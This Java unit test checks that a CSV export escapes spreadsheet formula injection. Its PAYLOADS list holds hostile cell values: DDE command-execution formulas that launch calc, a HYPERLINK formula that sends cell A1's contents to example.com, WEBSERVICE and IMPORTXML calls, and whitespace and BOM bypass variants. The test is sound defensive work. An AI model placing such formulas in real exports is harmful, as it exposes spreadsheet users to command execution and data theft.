package film.topsheet.report;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.FieldSource;

/** What an export smuggles in must come out as text, in every file a spreadsheet opens. */
class FormulaInjectionTest {

    static final List<String> PAYLOADS = List.of(
            "=1+1",
            "=cmd|'/c calc'!A1",
            "=HYPERLINK(\"http://example.com?\"&A1,\"click\")",
            "=WEBSERVICE(\"http://example.com\")",
            "=IMPORTXML(\"http://example.com\",\"//a\")",
            "+1+1",
            "+cmd|'/c calc'!A1",
            "-1+1",
            "-2+3+cmd|'/c calc'!A1",
            "@SUM(1,1)",
            "@cmd|'/c calc'!A1",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            " =1+1",
            "\u00a0=1+1",
            "\ufeff=1+1",
            "＝1+1",
            "=1+1\",\"=2+2",
            "=DDE(\"cmd\";\"/c calc\";\"x\")",
            "-",
            "+ extras");

    static final List<String> HARMLESS = List.of(
            "", "Acme Grip, Inc.", "12\" nails", "'quoted'", "3-point turn", "a=b", "(1,204.50)",
            " plain", "36-00", "1+1", "משרד", "制作");

    @ParameterizedTest
    @FieldSource("PAYLOADS")
    void aPayloadGetsALeadingApostropheInEveryCsv(String payload) {
        assertThat(vendorInCsv(payload)).isEqualTo("'" + payload);
    }

    @ParameterizedTest
    @FieldSource("HARMLESS")
    void whatNoSpreadsheetWouldRunStaysAsItCame(String text) {
        assertThat(vendorInCsv(text)).isEqualTo(text);
    }

    private static String vendorInCsv(String vendor) {
        var out = new ByteArrayOutputStream();
        try (var csv = new RejectsCsv(out)) {
            csv.accept(new RejectRow("a.csv", 1, "vendor", vendor, "-is odd", "Mend it."));
        }
        var text = out.toString(StandardCharsets.UTF_8);
        // opencsv's reader would turn a carriage return into a line break.
        var cell = text.substring(text.indexOf("vendor,") + 7, text.indexOf(",'-is odd,Mend it."));
        return cell.startsWith("\"") ? cell.substring(1, cell.length() - 1).replace("\"\"", "\"")
                : cell;
    }
}
